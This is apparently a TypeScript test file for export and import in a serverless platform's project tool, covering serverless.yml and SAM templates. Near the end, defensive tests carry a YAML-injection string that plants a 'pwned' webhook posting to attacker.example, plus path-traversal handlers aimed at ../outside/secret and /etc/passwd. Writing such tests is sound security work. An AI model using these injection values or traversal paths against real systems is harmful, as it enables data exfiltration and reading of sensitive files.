/**
 * Export and import: an exported server loads back as a project that plans
 * nothing; the sample serverless.yml and SAM template import field by field
 * and load as valid projects.
 */
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { parse as parseYaml } from 'yaml';
import {
  applyPlan,
  exportProject,
  importSam,
  importServerless,
  OutsideProjectError,
  parseCfnYaml,
  parseProject,
  planProject,
  readServerState,
} from '../../src/project/index.js';
import { FakeProjectApi } from '../helpers/project-fake.js';

const FIXTURES = join(import.meta.dirname, '..', 'fixtures');

describe('export', () => {
  it('writes function schedules, events and async destinations by name, and applies back as nothing to do', async () => {
    const api = new FakeProjectApi();
    const alerts = await api.createWebhook({
      name: 'alerts',
      target_url: 'https://example.com/alerts',
      method: 'POST',
      headers: {},
      payload_template: {},
      cron: null,
      timezone: 'UTC',
      mock_endpoint: null,
      transformation: null,
      events: [],
      enabled: true,
      retry: { max_attempts: 8 },
      timeout_ms: 15000,
    });
    const base = { runtime: 'javascript' as const, env: {}, timeout_ms: 10000, memory_mb: 128, event_format: 'switchyard' as const };
    await api.createFunction({ ...base, name: 'audit', code: 'export const handler = () => 1;' });
    await api.createFunction({
      ...base,
      name: 'report',
      code: 'export const handler = () => 2;',
      schedules: [
        { cron: '0 9 * * 1-5', timezone: 'America/New_York', payload: { kind: 'daily' } },
        { cron: '@hourly', timezone: 'UTC' },
      ],
      events: ['order.*'],
      async: { retries: 5, on_success: { type: 'function', name: 'audit' }, on_failure: { type: 'webhook', id: alerts.id } },
    });
    const exported = await exportProject(api);
    const doc = parseYaml(exported.files['switchyard.yaml']) as { functions: Record<string, Record<string, unknown>> };
    expect(doc.functions.report).toMatchObject({
      schedules: [{ cron: '0 9 * * 1-5', timezone: 'America/New_York', payload: { kind: 'daily' } }, { cron: '@hourly' }],
      events: ['order.*'],
      async: { retries: 5, on_success: { function: 'audit' }, on_failure: { webhook: 'alerts' } },
    });
    expect(doc.functions.audit).toEqual({ file: 'functions/audit.js' });
    const { project } = await parseProject(exported.files['switchyard.yaml'], '/x/switchyard.yaml', {
      readFile: async (p) => exported.files[p.replace('/x/', '')],
    });
    expect(planProject(project, await readServerState(api, project)).changes).toEqual([]);

    // Applied to an empty server, the export recreates the destinations once their targets exist.
    const fresh = new FakeProjectApi();
    await applyPlan(planProject(project, await readServerState(fresh, project)), fresh);
    expect(fresh.functions.get('report')!.async).toEqual({
      retries: 5,
      on_success: { type: 'function', name: 'audit' },
      on_failure: { type: 'webhook', id: fresh.webhooks[0].id },
    });
    expect(planProject(project, await readServerState(fresh, project)).changes).toEqual([]);
  });

  it('writes a project that plans nothing once its env placeholders are set', async () => {
    const api = new FakeProjectApi();
    await api.createFunction({
      name: 'hello',
      code: 'export const handler = () => 1;',
      runtime: 'javascript',
      env: { GREETING: 'hi', SHARED: 'a' },
      timeout_ms: 500,
      memory_mb: 128,
      event_format: 'switchyard',
    });
    await api.createFunction({
      name: 'typed',
      code: 'export const handler = (): number => 1;',
      runtime: 'typescript',
      env: { SHARED: 'b' },
      timeout_ms: 10000,
      memory_mb: 64,
      handler: 'handler',
      event_format: 'aws-v2',
    });
    const shop = await api.createApi({ name: 'shop', basePath: '/shop', routes: [{ method: 'GET', path: '/{id}', function: 'typed' }] });
    await api.createWebhook({
      name: 'ping',
      target_url: 'https://example.com',
      method: 'POST',
      headers: { 'x-source': 'switchyard' },
      payload_template: { a: '{{event}}' },
      cron: '*/5 * * * *',
      timezone: 'Europe/Berlin',
      mock_endpoint: { api_id: shop.id, path: '/1' },
      transformation: null,
      events: ['order.created'],
      enabled: false,
      secret: 'whsec_c2VjcmV0c2VjcmV0c2VjcmV0c2VjcmV0',
      retry: { max_attempts: 3, schedule_s: [1, 2] },
      timeout_ms: 2000,
    });

    // A webhook to a route of an exported API is written as target: {api, path}; another URL as target_url.
    await api.createWebhook({
      name: 'to-shop',
      target_url: `${shop.invokeUrl}/7?x=1`,
      method: 'GET',
      headers: {},
      payload_template: {},
      cron: null,
      timezone: 'UTC',
      mock_endpoint: null,
      transformation: null,
      events: ['order.created'],
      enabled: true,
      retry: { max_attempts: 8 },
      timeout_ms: 15000,
    });
    await api.createWebhook({
      name: 'near-shop',
      target_url: `${shop.invokeUrl}0/7`,
      method: 'GET',
      headers: {},
      payload_template: {},
      cron: null,
      timezone: 'UTC',
      mock_endpoint: null,
      transformation: null,
      events: ['order.created'],
      enabled: true,
      retry: { max_attempts: 8 },
      timeout_ms: 15000,
    });

    const exported = await exportProject(api);
    const doc = parseYaml(exported.files['switchyard.yaml']) as { webhooks: Record<string, Record<string, unknown>> };
    expect(doc.webhooks['to-shop']).toMatchObject({ target: { api: 'shop', path: '/7?x=1' } });
    expect(doc.webhooks['to-shop']).not.toHaveProperty('target_url');
    expect(doc.webhooks['near-shop']).toMatchObject({ target_url: `${shop.invokeUrl}0/7` });
    expect(doc.webhooks.ping).toMatchObject({ target_url: 'https://example.com' });
    expect(Object.keys(exported.files).sort()).toEqual(['functions/hello.js', 'functions/typed.ts', 'switchyard.yaml']);
    expect(exported.files['functions/typed.ts']).toBe('export const handler = (): number => 1;');
    // Each placeholder names its function (or webhook), and the file allows exactly those.
    expect(exported.env_vars).toEqual([
      { name: 'HELLO__GREETING', for: 'functions.hello.env.GREETING' },
      { name: 'HELLO__SHARED', for: 'functions.hello.env.SHARED' },
      { name: 'TYPED__SHARED', for: 'functions.typed.env.SHARED' },
      { name: 'WEBHOOK_PING_SECRET', for: 'webhooks.ping.secret' },
    ]);
    expect(exported.files['switchyard.yaml']).toContain('GREETING: ${env:HELLO__GREETING}');
    expect(doc).toMatchObject({ env_from: ['HELLO__GREETING', 'HELLO__SHARED', 'TYPED__SHARED', 'WEBHOOK_PING_SECRET'] });

    const env = { HELLO__GREETING: 'hi', HELLO__SHARED: 'a', TYPED__SHARED: 'b', WEBHOOK_PING_SECRET: 'whsec_c2VjcmV0c2VjcmV0c2VjcmV0c2VjcmV0' };
    const { project } = await parseProject(exported.files['switchyard.yaml'], '/x/switchyard.yaml', {
      env,
      readFile: async (p) => exported.files[p.replace('/x/', '')],
    });
    const plan = planProject(project, await readServerState(api, project));
    expect(plan.changes).toEqual([]);

    // A placeholder set to another value is a change the plan sees.
    const { project: changed } = await parseProject(exported.files['switchyard.yaml'], '/x/switchyard.yaml', {
      env: { ...env, HELLO__GREETING: 'bonjour' },
      readFile: async (p) => exported.files[p.replace('/x/', '')],
    });
    expect(planProject(changed, await readServerState(api, changed)).changes).toEqual([
      { action: 'update', kind: 'function', name: 'hello', fields: ['env'] },
    ]);
  });
});

function importFixture(kind: 'serverless' | 'sam') {
  const dir = join(FIXTURES, kind);
  const text = readFileSync(join(dir, kind === 'serverless' ? 'serverless.yml' : 'template.yaml'), 'utf8');
  const exists = (p: string) => existsSync(join(dir, p));
  return { dir, result: kind === 'serverless' ? importServerless(text, { exists }) : importSam(text, { exists }) };
}

describe('import serverless.yml', () => {
  it('maps functions, http (aws-v1) and httpApi (aws-v2) events, environment and variables', () => {
    const { result } = importFixture('serverless');
    expect(result.document.functions).toEqual({
      getUser: {
        file: 'src/users.js',
        handler: 'get',
        env: { SERVICE: 'users-service', TABLE: 'users-test', API_TOKEN: '${env:USERS_API_TOKEN}' },
        timeout_ms: 6000,
        memory_mb: 256,
        event_format: 'aws-v1',
      },
      proxy: {
        file: 'src/proxy.js',
        handler: 'handler',
        env: { SERVICE: 'users-service', TABLE: 'users-test', API_TOKEN: '${env:USERS_API_TOKEN}', MODE: 'proxy' },
        timeout_ms: 3000,
        memory_mb: 256,
        event_format: 'aws-v1',
      },
      listItems: {
        file: 'src/items.mjs',
        handler: 'list',
        env: { SERVICE: 'users-service', TABLE: 'items-test', API_TOKEN: '${env:USERS_API_TOKEN}' },
        timeout_ms: 6000,
        memory_mb: 128,
        event_format: 'aws-v2',
        schedules: [
          { cron: '*/10 * * * *' },
          { cron: '0 * * * *', payload: { source: 'scheduler' } },
          { cron: '0 9 * * MON-FRI', payload: { source: 'scheduler' } },
        ],
        events: ['order.created', 'order.updated'],
        async: { retries: 1, on_failure: { function: 'getUser' } },
      },
    });
    expect(result.document.apis).toEqual({
      'users-service-rest': {
        base_path: '/', error_format: 'aws',
        routes: [
          { method: 'GET', path: '/users/{id}', function: 'getUser' },
          { method: 'POST', path: '/users', function: 'getUser' },
          { method: 'ANY', path: '/files/{proxy+}', function: 'proxy' },
        ],
        // The fixture's \`cors: true\` on one http event: the Serverless Framework's meaning, for the whole API.
        cors: {
          allow_origins: ['*'],
          allow_methods: ['GET', 'OPTIONS'],
          allow_headers: ['Content-Type', 'X-Amz-Date', 'Authorization', 'X-Api-Key', 'X-Amz-Security-Token', 'X-Amz-User-Agent', 'X-Amzn-Trace-Id'],
        },
      },
      'users-service-http': {
        base_path: '/', error_format: 'aws',
        routes: [
          { method: 'GET', path: '/items', function: 'listItems' },
          { method: 'GET', path: '/items/{id}', function: 'listItems' },
        ],
      },
    });
    expect(result.notes).toEqual([
      "functions.listItems.events[2]: rate(10 minutes) is '*/10 * * * *' (AWS counts a rate from when the rule was created; Switchyard runs it on the clock)",
      "functions.listItems.events[3].rate[0]: rate(1 hour) is '0 * * * *' (AWS counts a rate from when the rule was created; Switchyard runs it on the clock)",
      'functions.listItems.events[4]: schedule rate(1 day) is disabled (enabled: false); not carried',
      "functions.listItems.events[5]: cron(0 8 L * ? *): 'L' (last) in day-of-month is not in Switchyard's cron; not carried",
      'functions.listItems.events[6]: source of the pattern not carried (functions subscribe by event name: the detail-type)',
      'apis.users-service-rest.cors: the cors of 1 http event made one policy for the whole API, which its 2 http events without cors share',
    ]);
  });

  it('splits a function used by both API kinds, names one API when only one kind is used, reports the rest', () => {
    const result = importServerless(`
service: svc
provider: { name: aws, runtime: python3.12, httpApi: { payload: '1.0' } }
functions:
  both:
    handler: h.main
    memorySize: 3008
    environment: { SECRET: '\${ssm:/path/secret}', FALLBACK: "\${env:X, 'dflt'}" }
    events:
      - httpApi: '*'
      - sqs: arn:aws:sqs:region:XXXXXX:queue
`);
    // The catch-all answers the root too, as on AWS.
    expect(result.document.apis).toEqual({
      svc: { base_path: '/', error_format: 'aws', routes: [{ method: 'ANY', path: '/{proxy+}', function: 'both' }, { method: 'ANY', path: '/', function: 'both' }] },
    });
    expect(result.document.functions!.both).toMatchObject({
      handler: 'main',
      memory_mb: 1024,
      event_format: 'aws-v1',
    });
    // A value only AWS resolves is left unset and listed, never read from the operator's environment.
    expect(result.document.functions!.both.env).toEqual({ FALLBACK: '${env:X}' });
    expect(result.unresolved).toEqual([{ where: 'functions.both.environment.SECRET', key: 'SECRET', value: '${ssm:/path/secret}' }]);
    expect(result.reads).toEqual(['X']);
    expect(result.yaml).toContain('#   - functions.both.environment.SECRET: ${ssm:/path/secret}');
    expect(result.notes.join('\n')).toMatch(/runtime python3\.12 is not JavaScript/);
    expect(result.notes.join('\n')).toMatch(/memory 3008 MB is above Switchyard's 1024 MB/);
    expect(result.notes.join('\n')).toMatch(/sqs events are not carried/);

    const split = importServerless(`
service: svc
functions:
  f:
    handler: f.handler
    events: [{ http: 'GET /a' }, { httpApi: 'GET /b' }]
`);
    expect(Object.keys(split.document.functions!)).toEqual(['f', 'f-v2']);
    expect(split.document.apis!['svc-http'].routes).toEqual([{ method: 'GET', path: '/b', function: 'f-v2' }]);
  });

  it('schedule events: every form of the docs, disabled and untranslatable ones reported', () => {
    const result = importServerless(`
service: svc
functions:
  crawl:
    handler: crawl.handler
    events:
      - schedule: rate(2 hours)
      - schedule: cron(0/15 * * * ? *)
      - schedule: { rate: rate(1 minute), input: '{"a": 1}', name: every-minute, description: d }
      - schedule: { rate: [cron(0 12 ? * 1 *)], method: scheduler, timezone: America/New_York }
      - schedule: { rate: [rate(7 minutes)] }
      - schedule: { rate: [cron(0 12 * * ? *)], inputTransformer: { inputTemplate: '{}' } }
      - schedule: { rate: [rate(3 days)], input: '[1]' }
      - schedule: cron(0 12 ? * 2#1 *)
      - schedule: cron(0 12 * * ? 2030)
      - eventBridge: { pattern: { source: [aws.ec2] } }
      - eventBridge: { schedule: rate(30 minutes) }
  both:
    handler: both.handler
    events: [{ http: 'GET /a' }, { httpApi: 'GET /b' }, { schedule: rate(1 day) }]
`);
    expect(result.document.functions!.crawl.schedules).toEqual([
      { cron: '0 */2 * * *' },
      { cron: '*/15 * * * *' },
      { cron: '* * * * *', payload: { a: 1 } },
      { cron: '0 12 * * 0', timezone: 'America/New_York' },
      { cron: '0 12 * * *' },
      { cron: '*/30 * * * *' },
    ]);
    expect(result.document.functions!.crawl).not.toHaveProperty('events');
    const notes = result.notes.join('\n');
    expect(notes).toContain("events[4]: rate(7 minutes) does not divide an hour evenly; write a cron schedule instead; not carried");
    expect(notes).toContain('events[5]: inputTransformer not carried');
    expect(notes).toContain('events[6]: rate(3 days) is longer than a day');
    expect(notes).toContain("events[7]: cron(0 12 ? * 2#1 *): '#' (nth weekday of the month) in day-of-week is not in Switchyard's cron; not carried");
    expect(notes).toContain("events[8]: the year '2030' of cron(0 12 * * ? 2030) is not in Switchyard's cron");
    expect(notes).toContain('events[9]: only a pattern with a detail-type list of names maps to function events; not carried');
    expect(notes).not.toMatch(/events\[[23]\]:.*not carried/);
    // A function split for two API kinds keeps its schedule once, on the function itself.
    expect(result.document.functions!.both.schedules).toEqual([{ cron: '0 0 * * *' }]);
    expect(result.document.functions!['both-v2']).not.toHaveProperty('schedules');
  });

  it('maximumRetryAttempts and destinations to functions of the service; ARNs and event age reported', () => {
    const result = importServerless(`
service: svc
functions:
  a:
    handler: a.handler
    maximumRetryAttempts: 2
    maximumEventAge: 3600
    destinations: { onSuccess: b, onFailure: 'arn:aws:sqs:eu-west-1:1:q' }
  b:
    handler: b.handler
    destinations: { onFailure: gone }
`);
    expect(result.document.functions!.a.async).toEqual({ retries: 2, on_success: { function: 'b' } });
    expect(result.document.functions!.b).not.toHaveProperty('async');
    const notes = result.notes.join('\n');
    expect(notes).toContain('functions.a.maximumEventAge: not carried');
    expect(notes).toContain('functions.a.destinations.onFailure: "arn:aws:sqs:eu-west-1:1:q" is not a function of this service');
    expect(notes).toContain('functions.b.destinations.onFailure: "gone" is not a function of this service');
  });

  it('loads as a valid project', async () => {
    const { dir, result } = importFixture('serverless');
    expect(result.reads).toEqual(['USERS_API_TOKEN']);
    const { project } = await parseProject(result.yaml, join(dir, 'switchyard.yaml'), { env: { USERS_API_TOKEN: 't' }, envFrom: result.reads });
    expect(project.functions.map((f) => `${f.name} ${f.runtime} ${f.code.length > 0}`)).toEqual([
      'getUser javascript true',
      'proxy javascript true',
      'listItems javascript true',
    ]);
  });
});

describe('import SAM', () => {
  it('parses CloudFormation short tags', () => {
    expect(parseCfnYaml('a: !Ref X\nb: !GetAtt T.Arn\nc: !Sub "x-${S}"\nd: !Join ["-", [a, !Ref S]]\ne: !If [C, 1, 2]\n')).toEqual({
      a: { Ref: 'X' },
      b: { 'Fn::GetAtt': ['T', 'Arn'] },
      c: { 'Fn::Sub': 'x-${S}' },
      d: { 'Fn::Join': ['-', ['a', { Ref: 'S' }]] },
      e: { 'Fn::If': ['C', 1, 2] },
    });
  });

  it('maps functions, Api (aws-v1) and HttpApi (aws-v2) events, Globals and Environment', () => {
    const { result } = importFixture('sam');
    expect(result.document.functions).toEqual({
      HelloFunction: {
        file: 'hello-world/app.mjs',
        handler: 'lambdaHandler',
        env: { STAGE: 'test', GREETING: 'hello from test' },
        timeout_ms: 5000,
        memory_mb: 128,
        event_format: 'aws-v1',
      },
      ItemsFunction: {
        file: 'items/index.js',
        handler: 'handler',
        env: { STAGE: 'test' },
        timeout_ms: 5000,
        memory_mb: 256,
        event_format: 'aws-v2',
        schedules: [
          { cron: '0 3 * * *', payload: { job: 'nightly' } },
          { cron: '30 8 * * 1-5', timezone: 'Europe/Paris' },
        ],
        events: ['order.created'],
        async: { retries: 0, on_failure: { function: 'HelloFunction' } },
      },
    });
    expect(result.document.apis).toEqual({
      ServerlessRestApi: {
        base_path: '/', error_format: 'aws',
        routes: [
          { method: 'GET', path: '/hello/{name}', function: 'HelloFunction' },
          { method: 'ANY', path: '/hello/{proxy+}', function: 'HelloFunction' },
        ],
      },
      ServerlessHttpApi: { base_path: '/', error_format: 'aws', routes: [{ method: 'GET', path: '/items/{id}', function: 'ItemsFunction' }] },
    });
    expect(result.unresolved).toEqual([
      { where: 'Resources.HelloFunction.Properties.Environment.Variables.TABLE_ARN', key: 'TABLE_ARN', value: '{"Fn::GetAtt":["ItemsTable","Arn"]}' },
    ]);
    expect(result.reads).toEqual([]);
    expect(result.notes).toEqual([
      "Outputs: not carried (a stack's outputs have no counterpart)",
      'Resources.ItemsFunction.Properties.Events.Paused: schedule rate(5 minutes) is disabled (Enabled: false); not carried',
      "Resources.ItemsFunction.Properties.Events.MonthEnd: cron(0 0 L * ? *): 'L' (last) in day-of-month is not in Switchyard's cron; not carried",
      'Resources.ItemsTable: AWS::DynamoDB::Table is not carried: Switchyard has no tables; keep the data in a database of your own and give the functions its address in env',
    ]);
  });

  it('an HttpApi event without Path and Method is the catch-all; PayloadFormatVersion 1.0 is aws-v1', () => {
    const result = importSam(`
Resources:
  Fn:
    Type: AWS::Serverless::Function
    Properties:
      Handler: index.handler
      Events:
        All: { Type: HttpApi }
        Old: { Type: HttpApi, Properties: { ApiId: !Ref Legacy, Path: /old, Method: post, PayloadFormatVersion: '1.0' } }
`);
    expect(result.document.apis).toEqual({
      ServerlessHttpApi: {
        base_path: '/', error_format: 'aws',
        routes: [
          { method: 'ANY', path: '/{proxy+}', function: 'Fn' },
          { method: 'ANY', path: '/', function: 'Fn' },
        ],
      },
      Legacy: { base_path: '/', error_format: 'aws', routes: [{ method: 'POST', path: '/old', function: 'Fn-v1' }] },
    });
    expect(result.document.functions!.Fn.file).toBe('index.js');
  });

  it('Schedule and ScheduleV2 events: Input, Enabled, State, the time zone; the rest reported', () => {
    const result = importSam(`
Parameters:
  Rate: { Type: String, Default: rate(15 minutes) }
Resources:
  Fn:
    Type: AWS::Serverless::Function
    Properties:
      Handler: index.handler
      Events:
        A: { Type: Schedule, Properties: { Schedule: !Ref Rate, Name: a, Description: d } }
        B: { Type: Schedule, Properties: { Schedule: 'cron(0 18 ? * MON-FRI *)', Input: '{"k": "v"}', Enabled: true } }
        C: { Type: Schedule, Properties: { Schedule: rate(1 hour), State: DISABLED } }
        D: { Type: ScheduleV2, Properties: { ScheduleExpression: 'cron(0 7 ? * 7 *)', ScheduleExpressionTimezone: Asia/Tokyo, RetryPolicy: { MaximumRetryAttempts: 1 } } }
        E: { Type: ScheduleV2, Properties: { ScheduleExpression: 'at(2027-01-01T00:00:00)' } }
        F: { Type: ScheduleV2, Properties: { ScheduleExpression: rate(1 day), State: DISABLED } }
        G: { Type: Schedule, Properties: { Schedule: 'cron(0 9 ? * MON-FRI *)', Input: '"text"' } }
        H: { Type: CloudWatchEvent, Properties: { Pattern: { detail-type: [a.b], detail: { x: [1] } } } }
`);
    expect(result.document.functions!.Fn.schedules).toEqual([
      { cron: '*/15 * * * *' },
      { cron: '0 18 * * MON-FRI', payload: { k: 'v' } },
      { cron: '0 7 * * 6', timezone: 'Asia/Tokyo' },
      { cron: '0 9 * * MON-FRI' },
    ]);
    expect(result.document.functions!.Fn.events).toEqual(['a.b']);
    const notes = result.notes.join('\n');
    expect(notes).toContain('Events.C: schedule rate(1 hour) is disabled (State: DISABLED); not carried');
    expect(notes).toContain('Events.D: RetryPolicy not carried');
    expect(notes).toContain('Events.E: at(2027-01-01T00:00:00) is a one-time schedule; Switchyard schedules repeat; not carried');
    expect(notes).toContain('Events.F: schedule rate(1 day) is disabled (State: DISABLED)');
    expect(notes).toContain('Events.G: the input "text" is not a JSON object');
    expect(notes).toContain('Events.H: detail of the pattern not carried');
    expect(notes).not.toMatch(/Name|Description/);
  });

  it('EventInvokeConfig: retries, a Lambda destination on a function of the template; other destinations reported', () => {
    const result = importSam(`
Globals:
  Function:
    EventInvokeConfig: { MaximumRetryAttempts: 1 }
Resources:
  A:
    Type: AWS::Serverless::Function
    Properties:
      Handler: a.handler
      EventInvokeConfig:
        MaximumRetryAttempts: 2
        MaximumEventAgeInSeconds: 60
        DestinationConfig:
          OnSuccess: { Type: Lambda, Destination: !Ref B }
          OnFailure: { Type: SQS, Destination: !GetAtt Queue.Arn }
  B:
    Type: AWS::Serverless::Function
    Properties: { Handler: b.handler, FunctionName: audit }
`);
    expect(result.document.functions!.A.async).toEqual({ retries: 2, on_success: { function: 'audit' } });
    expect(result.document.functions!.audit.async).toEqual({ retries: 1 });
    const notes = result.notes.join('\n');
    expect(notes).toContain('EventInvokeConfig.MaximumEventAgeInSeconds: not carried');
    expect(notes).toContain('EventInvokeConfig.DestinationConfig.OnFailure: {"Type":"SQS"');
  });

  it('loads as a valid project', async () => {
    const { dir, result } = importFixture('sam');
    const { project } = await parseProject(result.yaml, join(dir, 'switchyard.yaml'));
    expect(project.functions.map((f) => f.name)).toEqual(['HelloFunction', 'ItemsFunction']);
  });
});

describe('export placeholders', () => {
  it('name their function (or webhook), never a SWITCHYARD_ variable, never twice, and are allowed under env_from', async () => {
    const api = new FakeProjectApi();
    const base = { code: 'export const handler = () => 1;', runtime: 'javascript' as const, timeout_ms: 10000, memory_mb: 128, event_format: 'switchyard' as const };
    await api.createFunction({ ...base, name: 'orders-api', env: { DB_URL: 'postgres://x' } });
    await api.createFunction({ ...base, name: 'switchyard-admin', env: { KEY: 'k' } });
    await api.createFunction({ ...base, name: 'a-b', env: { K: '1' } });
    await api.createFunction({ ...base, name: 'a_b', env: { K: '2' } });
    const exported = await exportProject(api);
    expect(exported.env_vars).toEqual([
      { name: 'ORDERS_API__DB_URL', for: 'functions.orders-api.env.DB_URL' },
      { name: 'FN_SWITCHYARD_ADMIN__KEY', for: 'functions.switchyard-admin.env.KEY' },
      { name: 'A_B__K', for: 'functions.a-b.env.K' },
      { name: 'A_B__K_2', for: 'functions.a_b.env.K' },
    ]);
    const text = exported.files['switchyard.yaml'];
    expect(text).not.toMatch(/\$\{env:SWITCHYARD_/);
    expect((parseYaml(text) as { env_from: string[] }).env_from).toEqual(exported.env_vars.map((v) => v.name));
    // The file applies as written once its own variables are set, with nothing more allowed.
    const env = { ORDERS_API__DB_URL: 'postgres://x', FN_SWITCHYARD_ADMIN__KEY: 'k', A_B__K: '1', A_B__K_2: '2' };
    const { project } = await parseProject(text, '/x/switchyard.yaml', { env, readFile: async (p) => exported.files[p.replace('/x/', '')] });
    expect(planProject(project, await readServerState(api, project)).changes).toEqual([]);
  });
});

describe('generated YAML is data', () => {
  const INJECTED = "w\nwebhooks:\n  pwned:\n    target_url: https://attacker.example/x\n    method: POST\n    payload_template: {}\n    cron: '* * * * *'\n#\r\u2028";

  it('export: a webhook name with line breaks stays one name, in its key and in the comment', async () => {
    const api = new FakeProjectApi();
    await api.createWebhook({
      name: INJECTED,
      target_url: 'https://example.com/h',
      method: 'POST',
      headers: { authorization: 'Bearer t' },
      payload_template: {},
      cron: null,
      timezone: 'UTC',
      mock_endpoint: null,
      transformation: null,
      events: ['e'],
      enabled: true,
      secret: 'whsec_c2VjcmV0c2VjcmV0c2VjcmV0c2VjcmV0',
      retry: { max_attempts: 8 },
      timeout_ms: 15000,
    });
    const exported = await exportProject(api);
    const text = exported.files['switchyard.yaml'];
    const doc = parseYaml(text) as { webhooks: Record<string, unknown> };
    expect(Object.keys(doc)).toEqual(['version', 'env_from', 'webhooks']);
    expect(Object.keys(doc.webhooks)).toEqual([INJECTED]);
    // Every line before the first key is a comment: nothing of the name became YAML.
    const head = text.slice(0, text.indexOf('\nversion: 1'));
    for (const line of head.split(/\r\n|\r|\n|\u2028/)) expect(line === '' || line.startsWith('#'), JSON.stringify(line)).toBe(true);
    const env = Object.fromEntries(exported.env_vars.map((v) => [v.name, v.name.endsWith('SECRET') ? 'whsec_c2VjcmV0c2VjcmV0c2VjcmV0c2VjcmV0' : 'Bearer t']));
    const { project } = await parseProject(text, '/x/switchyard.yaml', { env });
    expect(project.webhooks.map((w) => w.name)).toEqual([INJECTED]);
  });

  it('import: a function name with line breaks becomes a valid name, and the note naming it stays a comment', () => {
    const result = importServerless(`service: s\nfunctions:\n  ${JSON.stringify(INJECTED)}:\n    handler: h.handler\n`);
    const doc = parseYaml(result.yaml) as Record<string, unknown>;
    expect(Object.keys(doc)).toEqual(['version', 'project', 'functions']);
    const names = Object.keys(doc.functions as object);
    expect(names).toHaveLength(1);
    expect(names[0]).toMatch(/^w-webhooks----pwned[A-Za-z0-9_-]*$/);
    expect(result.notes[0]).toContain(JSON.stringify(INJECTED));
    const sam = importSam(`Resources:\n  Fn:\n    Type: AWS::Serverless::Function\n    Properties: { Handler: h.handler, FunctionName: ${JSON.stringify(INJECTED)}, Environment: { Variables: { X: !Sub ${JSON.stringify(`\${T}${INJECTED}`)} } } }\n`);
    expect(Object.keys(parseYaml(sam.yaml) as object)).toEqual(['version', 'project', 'functions']);
    expect(sam.unresolved.map((u) => u.key)).toEqual(['X']);
    expect(sam.yaml).toContain('pwned');
  });
});

describe('import refuses function files outside the folder', () => {
  it('a ../ handler and an absolute CodeUri are refused, naming each; nothing is returned', () => {
    const sls = (() => {
      try {
        return importServerless('service: s\nfunctions:\n  up: { handler: ../outside/secret.handler }\n  ok: { handler: src/ok.handler }\n');
      } catch (err) {
        return err;
      }
    })();
    expect(sls).toBeInstanceOf(OutsideProjectError);
    expect((sls as OutsideProjectError).problems.map((p) => [p.path, p.message])).toEqual([
      ['functions.up.handler', 'the function file ../outside/secret.js is outside the folder of the imported file; pass --allow-outside <folder> to allow a folder outside it'],
    ]);
    expect(() => importSam('Resources:\n  Fn:\n    Type: AWS::Serverless::Function\n    Properties: { CodeUri: /etc, Handler: passwd.handler }\n')).toThrow(
      /Resources\.Fn\.Properties\.CodeUri: the function file \/etc\/passwd\.js is outside/,
    );
    // The caller's judge (the CLI's: symlinks resolved, allowed folders) decides when given.
    const allowed = importServerless('service: s\nfunctions:\n  up: { handler: ../outside/secret.handler }\n', { outside: () => null });
    expect(allowed.document.functions!.up.file).toBe('../outside/secret.js');
    expect(() => importServerless('service: s\nfunctions:\n  l: { handler: link/x.handler }\n', { outside: (p) => (p === 'link/x.js' ? '/elsewhere/x.js' : null) })).toThrow(
      /link\/x\.js is outside the folder of the imported file \(it resolves to \/elsewhere\/x\.js\)/,
    );
  });

  it('a duplicate key is still a YAML error (checked in linear time)', () => {
    expect(() => parseCfnYaml('a: 1\nb: { c: 1, c: 2 }\n')).toThrow(/unique/);
    expect(() => importServerless('service: s\nfunctions:\n  f: { handler: a.b }\n  f: { handler: c.d }\n')).toThrow(/YAML syntax: Map keys must be unique/);
  });
});
